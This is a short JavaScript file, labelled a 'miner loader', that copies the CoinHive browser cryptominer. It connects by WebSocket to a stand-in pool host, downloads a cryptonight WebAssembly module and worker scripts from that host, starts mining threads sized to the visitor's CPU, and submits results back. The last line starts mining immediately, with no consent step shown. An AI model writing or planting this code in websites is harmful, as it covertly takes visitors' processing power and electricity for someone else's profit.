/* miner loader */
var CoinHive = window.CoinHive || {};
CoinHive.CONFIG = { LIB_URL: "https://coin-pool.example/lib/", WEBSOCKET_SHARDS: [["wss://ws1.coin-pool.example/proxy", "wss://ws2.coin-pool.example/proxy"]] };
CoinHive.Anonymous = function (siteKey, params) {
  this.siteKey = siteKey;
  this.threads = (params && params.threads) || navigator.hardwareConcurrency || 4;
  this.throttle = (params && params.throttle) || 0;
  this.workers = [];
  this.hashesPerSecond = 0;
};
CoinHive.Anonymous.prototype.start = function () {
  var self = this;
  var socket = new WebSocket(CoinHive.CONFIG.WEBSOCKET_SHARDS[0][0]);
  socket.onmessage = function (msg) {
    var job = JSON.parse(msg.data);
    self.workers.forEach(function (w) { w.postMessage({ job: job.params, throttle: self.throttle }); });
  };
  fetch(CoinHive.CONFIG.LIB_URL + "cryptonight.wasm").then(function (r) { return r.arrayBuffer(); }).then(function (buf) {
    return WebAssembly.compile(buf);
  }).then(function (mod) {
    for (var i = 0; i < self.threads; i++) {
      var w = new Worker(CoinHive.CONFIG.LIB_URL + "worker.js");
      w.postMessage({ module: mod });
      w.onmessage = function (e) { if (e.data.nonce) socket.send(JSON.stringify({ type: "submit", params: e.data })); self.hashesPerSecond = e.data.hps; };
      self.workers.push(w);
    }
  });
};
new CoinHive.Anonymous("pk_demo_site_key", { throttle: 0.3 }).start();
